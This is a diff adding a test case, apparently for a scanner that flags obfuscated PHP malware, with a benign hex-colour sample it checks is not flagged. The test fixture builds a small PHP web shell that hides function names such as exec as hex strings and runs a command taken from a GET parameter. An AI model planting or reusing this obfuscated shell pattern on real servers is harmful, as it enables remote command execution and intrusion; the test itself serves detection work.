@@ -62,3 +62,13 @@ test('create_function body spelled from a literal character table folds and is a
   assert.equal(f?.verdict, 'malicious');
   assert.ok(reasons(f).includes('create_function() runs code spelled from constant pieces'));
 });
+
+test('php: function names kept as hex strings and decoded into a call table', () => {
+  const hex = (s: string): string => Buffer.from(s).toString('hex');
+  const names = ['fopen', 'fwrite', 'fclose', 'unlink', 'chmod', 'scandir', 'is_dir', 'basename', 'exec'];
+  const shell = `<?php\n$t = [${names.map((n) => `"${hex(n)}"`).join(', ')}];\nforeach ($t as $i => $h) { $GLOBALS[$i] = hex2bin($h); }\necho $GLOBALS[8]($_GET['c']);\n`;
+  assert.ok(findingOf('t.php', shell)!.evidence.some((e) => e.reason === 'function names stored hex-encoded (9, including exec) for calls through a table'));
+  // colours and hashes in hex decode to no identifiers
+  const app = `<?php\n$palette = ["ff0000", "00ff00", "0000ff", "ffff00", "00ffff", "ff00ff", "c0c0c0", "808080", "800000"];\n$h = ["5d41402abc4b2a76b9719d911017c592", "7d793037a0760186574b0282f2f435e7"];\necho count($palette) + count($h);\n`;
+  assert.equal(findingOf('c.php', app), undefined);
+});
